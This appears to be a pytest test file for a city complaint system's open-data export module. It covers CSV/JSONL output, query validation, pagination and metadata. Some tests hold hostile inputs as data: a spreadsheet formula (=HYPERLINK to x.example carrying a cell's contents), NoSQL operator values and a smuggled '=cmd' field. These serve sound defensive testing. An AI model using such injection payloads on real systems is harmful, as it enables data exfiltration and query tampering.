"""Open-data exports (services/reporting/exports.py): rows, formats, queries, links, metadata."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
import yaml
from marshmallow import ValidationError

from services.reporting import exports

TZ = ZoneInfo("Asia/Jakarta")
DEPARTMENTS = exports.department_names({})
STAFF = exports.Reader(staff=True)
BPBD = exports.Reader(staff=True, department_id="bpbd")


def case(**overrides) -> dict:
    """A document of reporting's projection (services/reporting/projections.py)."""
    doc = {
        "_id": "SU-0123456789",
        "received": True,
        "channel": "web",
        "source": "web",
        "submitted_at": "2026-03-01T17:30:00.000Z",  # 2 March, 00:30 in the city
        "kecamatan": "Pekalongan Utara",
        "kelurahan": "Panjang Wetan",
        "language": "id",
        "text": "Banjir rob di depan rumah, hubungi [phone]",
        "status": "categorized",
        "revision": 1,
        "status_seq": 0,
        "category": "flooding",
        "department": "BPBD",
        "department_id": "bpbd",
        "priority": "urgent",
        "method": "model",
        "categorized_at": "2026-03-01T17:30:02.000Z",
        "first_categorized_at": "2026-03-01T17:30:01.000Z",
    }
    doc.update(overrides)
    return doc


def load(**args) -> dict:
    return exports.load_query({k: str(v) for k, v in args.items()}, DEPARTMENTS)


def errors(**args) -> dict:
    with pytest.raises(ValidationError) as caught:
        load(**args)
    return caught.value.messages


# ---------------------------------------------------------------- rows


def test_a_row_has_every_column_in_its_closed_form_and_in_city_time():
    row = exports.case_row(
        case(
            status_seq=3,
            case_status="resolved",
            first_response_at="2026-03-02T01:00:00.000Z",
            resolved_at="2026-03-02T03:15:09.123Z",
            score=4,
        ),
        TZ,
    )
    assert list(row) == list(exports.CASE_COLUMNS)
    assert row == {
        "id": "SU-0123456789",
        "category": "flooding",
        "department": "BPBD",
        "department_id": "bpbd",
        "status": "resolved",  # the department's latest move (projections.counted_status)
        "priority": "urgent",
        "kecamatan": "Pekalongan Utara",
        "kelurahan": "Panjang Wetan",
        "channel": "web",
        "language": "id",
        "submitted_at": "2026-03-02T00:30:00+07:00",
        "categorized_at": "2026-03-02T00:30:01+07:00",  # the first categorization
        "first_response_at": "2026-03-02T08:00:00+07:00",
        "resolved_at": "2026-03-02T10:15:09+07:00",
        "overdue": False,
        "sla_met": True,
        "rating": 4,
    }


def test_a_transfer_names_the_department_and_an_older_document_gets_its_id_from_the_name():
    moved = exports.case_row(
        case(assigned_department="Dinas PUPR", assigned_department_id="dinas-pupr"), TZ
    )
    assert (moved["department"], moved["department_id"]) == ("Dinas PUPR", "dinas-pupr")
    old = case(department="Dinas PUPR")
    del old["department_id"], old["first_categorized_at"]  # before these were projected
    row = exports.case_row(old, TZ)
    assert (row["department"], row["department_id"]) == ("Dinas PUPR", "dinas-pupr")
    assert row["categorized_at"] == "2026-03-02T00:30:02+07:00"
    assert row["first_response_at"] is None and row["resolved_at"] is None


@pytest.mark.parametrize(
    ("state", "overdue", "met"),
    [
        ({"case_status": "resolved", "status_seq": 2}, False, True),
        ({"case_status": "closed", "status_seq": 3}, False, True),
        ({"case_status": "resolved", "status_seq": 2}, True, False),
        ({"case_status": "in_progress", "status_seq": 1}, True, False),
        ({"case_status": "in_progress", "status_seq": 1}, False, None),
        ({"case_status": "rejected", "status_seq": 1}, False, None),
        ({}, False, None),
    ],
)
def test_sla_met_is_true_when_resolved_in_time_false_when_overdue_else_empty(state, overdue, met):
    row = exports.case_row(case(overdue=overdue, **state), TZ)
    assert (row["overdue"], row["sla_met"]) == (overdue, met)


def test_a_row_never_carries_free_text_whatever_the_projection_holds():
    doc = case(
        kecamatan="Jl. Merdeka 12, rumah Pak Budi",
        kelurahan="budi@example.com 081234567890",
        language="Budi Santoso",
        channel="web\n=cmd",
        category="Siti 3201234567890123",
        priority="urgent please call me",
        status="Budi",
        score=True,
        submitted_at="kemarin sore",
        contact={"name": "Budi", "email": "budi@example.com"},
        address="Jl. Merdeka 12",
    )
    row = exports.case_row(doc, TZ)
    assert "text" not in row and set(row) == set(exports.CASE_COLUMNS)
    for column in ("kecamatan", "kelurahan", "language", "channel", "category", "priority"):
        assert row[column] is None, column
    assert row["status"] is None and row["rating"] is None and row["submitted_at"] is None
    assert "Budi" not in json.dumps(row) and "Merdeka" not in json.dumps(row)


def test_area_names_are_the_citys_own_whatever_their_case_and_spaces():
    row = exports.case_row(case(kecamatan="pekalongan  UTARA", kelurahan=" panjang wetan "), TZ)
    assert (row["kecamatan"], row["kelurahan"]) == ("Pekalongan Utara", "Panjang Wetan")


def test_the_text_is_for_staff_only_and_a_department_reads_its_own_cases_text():
    doc = case()
    other = case(department="Dinas PUPR", department_id="dinas-pupr")
    assert "text" not in exports.case_row(doc, TZ)
    assert exports.columns() == exports.CASE_COLUMNS
    assert exports.columns(STAFF) == (*exports.CASE_COLUMNS, "text")
    assert exports.case_row(doc, TZ, STAFF)["text"] == doc["text"]
    assert exports.case_row(other, TZ, STAFF)["text"] == other["text"]
    assert exports.case_row(doc, TZ, BPBD)["text"] == doc["text"]
    assert exports.case_row(other, TZ, BPBD)["text"] is None
    # what a page fetches: the text only for staff
    assert "text" not in exports.row_fields() and exports.row_fields(STAFF)["text"] == 1
    assert "text" not in exports.SCAN_FIELDS


# ---------------------------------------------------------------- formats


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_quotes_separators_quotes_and_line_breaks_per_rfc_4180():
    rows = [{"a": 'he said "hi", then\nleft', "b": None, "c": True, "d": 5}]
    text = "".join(exports.csv_lines(rows, ("a", "b", "c", "d")))
    assert text == 'a,b,c,d\r\n"he said ""hi"", then\nleft",,true,5\r\n'
    assert read_csv(text) == [["a", "b", "c", "d"], ['he said "hi", then\nleft', "", "true", "5"]]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_prefixes_a_cell_a_spreadsheet_would_run_as_a_formula(start):
    value = f'{start}HYPERLINK("http://x.example/?"&A1)'
    line = exports.csv_line([value, "ok"])
    cell = read_csv(line)[0][0]
    assert cell == "'" + value
    assert not cell.startswith(exports.FORMULA_START)
    assert exports.csv_cell("a=b") == "a=b"  # only at the start
    assert exports.csv_cell(-1) == "-1"  # a number is not text


def test_jsonl_is_one_object_per_line_in_column_order_and_nothing_else():
    rows = [
        exports.case_row(case(text="baris\u2028dua\ntiga \u0085"), TZ, STAFF),
        exports.case_row(case(_id="SU-0123456790", overdue=True), TZ, STAFF),
    ]
    names = exports.columns(STAFF)
    text = "".join(exports.jsonl_lines(rows, names))
    lines = text.splitlines()  # splits at U+2028 and U+0085 too: they are escaped
    assert len(lines) == 2 and text.endswith("\n") and text.count("\n") == 2
    first, second = (json.loads(line) for line in lines)
    assert list(first) == list(names)
    assert first["text"] == "baris\u2028dua\ntiga \u0085"
    assert (second["overdue"], second["sla_met"], second["rating"]) == (True, False, None)


def test_chunks_gather_lines_into_writes_of_about_the_size_given():
    lines = [f"{i:04d}\n" for i in range(1000)]
    found = list(exports.chunks(lines, size=1024))
    assert b"".join(found) == "".join(lines).encode()
    assert all(len(c) >= 1024 for c in found[:-1]) and len(found) == 5
    assert list(exports.chunks([])) == []


# ---------------------------------------------------------------- the query


def test_a_query_is_validated_and_made_canonical():
    cursor = exports.encode_cursor("SU-0123456789")
    query = load(**{"from": "2026-03-01", "to": "2026-03-31"}, kelurahan="panjang wetan")
    assert query == {
        "from_": date(2026, 3, 1),
        "to": date(2026, 3, 31),
        "kelurahan": "Panjang Wetan",
        "limit": 1000,
    }
    assert load(cursor=cursor, limit=10000)["after"] == "SU-0123456789"
    assert load(department="bpbd", channel="whatsapp", language="jv")["department"] == "bpbd"


@pytest.mark.parametrize(
    ("args", "field"),
    [
        ({"category": "volcano"}, "category"),
        ({"from": "2026-02-30"}, "from"),
        ({"from": "2026-3-1"}, "from"),
        ({"to": "20260301"}, "to"),
        ({"to": "2026-03-01T00:00:00"}, "to"),
        ({"from": "2026-03-02", "to": "2026-03-01"}, "from"),
        ({"limit": "0"}, "limit"),
        ({"limit": "10001"}, "limit"),
        ({"limit": "ten"}, "limit"),
        ({"cursor": "not base64!"}, "cursor"),
        ({"cursor": exports.encode_cursor('{"$gt": ""}')}, "cursor"),
        ({"cursor": exports.encode_cursor("SU-1") + "=="}, "cursor"),
        ({"cursor": exports.encode_cursor("a" * 65)}, "cursor"),
        ({"kelurahan": "Jl. Merdeka 12"}, "kelurahan"),
        ({"kecamatan": "Pekalongan Tengah"}, "kecamatan"),
        ({"department": "dinas-rahasia"}, "department"),
        ({"channel": "Web"}, "channel"),
        ({"channel": "web\n"}, "channel"),
        ({"language": "indonesian"}, "language"),
        ({"status": "resolved"}, "status"),  # not a filter of the export
        ({"$where": "1"}, "$where"),
    ],
)
def test_a_bad_query_names_its_field(args, field):
    assert field in errors(**args)


def test_the_metadata_takes_the_filter_but_not_a_page():
    query = exports.load_query({"from": "2026-03-01"}, DEPARTMENTS, exports.CasesFilter)
    assert query == {"from_": date(2026, 3, 1)}
    with pytest.raises(ValidationError):
        exports.load_query({"limit": "5"}, DEPARTMENTS, exports.CasesFilter)
    with pytest.raises(ValidationError):
        exports.NoQuery().load({"x": "1"})


def test_a_department_of_suara_departments_is_known_with_its_names():
    names = exports.department_names({"streetlights": "UPT PJU Kota", "roads": "dinas-pupr"})
    assert names["upt-pju-kota"] == {"upt-pju-kota", "UPT PJU Kota"}
    assert {"dinas-pupr", "Dinas PUPR"} <= names["dinas-pupr"]
    assert exports.load_query({"department": "upt-pju-kota"}, names)["department"]


def test_a_cursor_is_the_last_id_and_nothing_else():
    for fid in ("SU-0123456789", "SU-ZZZZZZZZZZ", "x"):
        assert exports.decode_cursor(exports.encode_cursor(fid)) == fid
    for bad in ("", "====", "%%%", exports.encode_cursor("SU 1"), exports.encode_cursor("$gt")):
        assert exports.decode_cursor(bad) is None


# ---------------------------------------------------------------- reading a page


def test_the_scan_filter_holds_only_strings_and_the_page_range():
    query = load(
        **{"from": "2026-03-01", "to": "2026-03-31"},
        category="roads",
        channel="web",
        language="id",
        kecamatan="Pekalongan Utara",
        department="dinas-pupr",
    )
    found = exports.scan_filter(query, DEPARTMENTS, after="SU-1", until="SU-9")
    assert found["_id"] == {"$gt": "SU-1", "$lte": "SU-9"}
    assert found["received"] is True
    assert found["submitted_at"] == {"$gte": "2026-02-28", "$lt": "2026-04-02"}
    assert (found["category"], found["channel"], found["language"]) == ("roads", "web", "id")
    assert found["kecamatan"]["$options"] == "i"
    assert {"department_id": "dinas-pupr"} in found["$or"]
    assert exports.scan_filter(load(), DEPARTMENTS) == {"received": True}


def _passes_date_prefix(when: str, bounds: dict) -> bool:
    return bounds.get("$gte", "") <= when and ("$lt" not in bounds or when < bounds["$lt"])


def test_the_period_filter_keeps_every_case_of_the_period_whatever_its_times_offset():
    query = load(**{"from": "2026-03-01", "to": "2026-03-01"})
    bounds = exports.scan_filter(query, DEPARTMENTS)["submitted_at"]
    start = datetime(2026, 3, 1, tzinfo=TZ)
    kept = 0
    for minutes in range(-48 * 60, 48 * 60, 37):
        moment = start + timedelta(minutes=minutes)
        for hours in (-12, -3, 0, 5.5, 7, 9, 14):
            text = moment.astimezone(timezone(timedelta(hours=hours))).isoformat()
            if exports.matches({"submitted_at": text}, query, TZ):
                kept += 1
                assert _passes_date_prefix(text, bounds), text
                assert moment.astimezone(TZ).date() == date(2026, 3, 1)
            else:
                assert moment.astimezone(TZ).date() != date(2026, 3, 1)
    assert kept


def test_a_case_matches_by_its_rows_own_values():
    query = load(department="dinas-pupr", kelurahan="Panjang Wetan", category="flooding")
    assert not exports.matches(case(), query, TZ)  # bpbd's
    assert exports.matches(case(assigned_department_id="dinas-pupr"), query, TZ)
    older = case(department="Dinas PUPR")
    del older["department_id"]
    assert exports.matches(older, query, TZ)
    assert not exports.matches(case(department_id="dinas-pupr", kelurahan="x"), query, TZ)
    assert exports.matches(case(), load(), TZ)


def test_a_page_ends_at_its_limit_th_match_and_knows_whether_more_follow():
    docs = [case(_id=f"SU-{i:010d}", category="roads" if i % 2 else "waste") for i in range(10)]
    roads = load(category="roads")
    assert exports.page_end(docs, roads, TZ, 3) == exports.PageEnd("SU-0000000005", True)
    assert exports.page_end(docs, roads, TZ, 5) == exports.PageEnd("SU-0000000009", False)
    assert exports.page_end(docs, roads, TZ, 6) == exports.PageEnd("SU-0000000009", False)
    assert exports.page_end([], roads, TZ, 6) == exports.PageEnd(None, False)


def test_links_name_the_next_page_with_the_same_filter_and_the_metadata():
    query = load(**{"from": "2026-03-01"}, kelurahan="Panjang Wetan", limit=2)
    link = exports.links("jsonl", query, exports.PageEnd("SU-0123456789", True))
    cursor = exports.encode_cursor("SU-0123456789")
    assert link == (
        "</api/v1/exports/cases.jsonl?from=2026-03-01&kelurahan=Panjang%20Wetan&limit=2"
        f'&cursor={cursor}>; rel="next", '
        "</api/v1/exports/cases.metadata.json?from=2026-03-01&kelurahan=Panjang%20Wetan>; "
        'rel="describedby"; type="application/json"'
    )
    last = exports.links("csv", query, exports.PageEnd("SU-0123456789", False))
    assert 'rel="next"' not in last and 'rel="describedby"' in last


# ---------------------------------------------------------------- the summary


def test_the_summary_becomes_group_key_count_rows_without_free_text():
    summary = {
        "total": 7,
        "by_category": {"roads": 4, "flooding": 3},
        "by_kelurahan": {"Panjang Wetan": 2, "panjang wetan": 1, "rumah Pak Budi": 4},
        "by_language": {"id": 6, "Budi Santoso": 1},
        "overdue": 1,
        "satisfaction": {"ratings": 2, "mean_score": 4.5, "by_score": {"4": 1, "5": 1}},
        "generated_at": "2026-03-01T00:00:00Z",
    }
    rows = exports.summary_rows(summary)
    assert rows == [
        ("total", "", 7),
        ("by_category", "roads", 4),
        ("by_category", "flooding", 3),
        ("by_kelurahan", "Panjang Wetan", 3),
        ("by_kelurahan", "", 4),
        ("by_language", "id", 6),
        ("by_language", "", 1),
        ("overdue", "", 1),
        ("satisfaction", "ratings", 2),
        ("satisfaction.by_score", "4", 1),
        ("satisfaction.by_score", "5", 1),
    ]
    text = exports.summary_csv(summary)
    assert read_csv(text)[0] == ["group", "key", "count"] and "Budi" not in text


# ---------------------------------------------------------------- metadata


def test_the_metadata_describes_every_column_in_both_languages():
    query = load(**{"from": "2026-03-01", "to": "2026-03-31"}, category="roads")
    meta = exports.metadata(query, "Asia/Jakarta", datetime(2026, 4, 1, tzinfo=TZ))
    assert meta["title"]["id"] and meta["title"]["en"]
    assert meta["publisher"]["short_name"] == "Dinkominfo Kota Pekalongan"
    assert meta["source"]["name"] == "Suara"
    assert meta["licence"]["id"] == "CC-BY-4.0"
    assert meta["update_frequency"]["en"] and meta["contact"]["name"]
    assert meta["period"] == {
        "from": "2026-03-01",
        "to": "2026-03-31",
        "timezone": "Asia/Jakarta",
        "by": "submitted_at",
    }
    assert meta["filters"] == {"category": "roads"}
    assert [c["name"] for c in meta["columns"]] == [*exports.CASE_COLUMNS, "text"]
    for column in meta["columns"] + meta["resources"][2]["columns"]:
        assert column["type"] in exports.TYPES
        assert column["description"]["id"] and column["description"]["en"]
        if column["type"] == "datetime":
            assert "+07:00" in column["format"]
    assert [c for c in meta["columns"] if c.get("restricted")] == [meta["columns"][-1]]
    assert meta["resources"][0]["path"] == (
        "/api/v1/exports/cases.csv?from=2026-03-01&to=2026-03-31&category=roads"
    )
    assert meta["generated_at"] == "2026-03-31T17:00:00Z"
    json.dumps(meta)  # plain JSON


def test_a_broken_metadata_file_says_what_is_wrong(tmp_path):
    good = yaml.safe_load(exports.METADATA_PATH.read_text(encoding="utf-8"))
    assert exports.parse_metadata(good)["identifier"]
    broken = yaml.safe_load(exports.METADATA_PATH.read_text(encoding="utf-8"))
    del broken["title"]["en"]
    with pytest.raises(exports.MetadataError, match="title"):
        exports.parse_metadata(broken)
    swapped = yaml.safe_load(exports.METADATA_PATH.read_text(encoding="utf-8"))
    cols = swapped["columns"]["cases"]
    cols[0], cols[1] = cols[1], cols[0]
    with pytest.raises(exports.MetadataError, match="in this order"):
        exports.parse_metadata(swapped)
    path = tmp_path / "metadata.yaml"
    path.write_text("title: [", encoding="utf-8")
    with pytest.raises(exports.MetadataError, match=str(path)):
        exports.load_metadata(path)
